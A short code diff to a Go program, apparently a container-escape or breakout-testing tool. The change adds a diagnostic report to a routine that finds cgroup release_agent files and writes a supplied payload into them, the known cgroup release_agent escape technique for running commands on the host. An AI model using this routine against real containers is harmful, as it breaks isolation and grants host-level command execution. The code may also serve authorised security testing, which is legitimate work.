@@ -14,6 +14,7 @@ package main
 
 import (
 	"crypto/sha256"
+	"errors"
 	"fmt"
 	"os"
 	"os/exec"
@@ -188,10 +189,17 @@ func releaseAgent(payload string) {
 	}
 	mounted, _ := filepath.Glob("/sys/fs/cgroup/*")
 	roots = append(roots, mounted...)
+	found := 0
+	defer func() {
+		if found == 0 {
+			report(fmt.Sprintf("find a release_agent in %d cgroup mounts", len(roots)), errors.New("none visible (a cgroup namespace shows its own root, not the hierarchy's)"))
+		}
+	}()
 	for _, root := range roots {
 		if _, err := os.Stat(filepath.Join(root, "release_agent")); err != nil {
 			continue
 		}
+		found++
 		if !writeFile("set release_agent of "+root, filepath.Join(root, "release_agent"), payload) {
 			continue
 		}
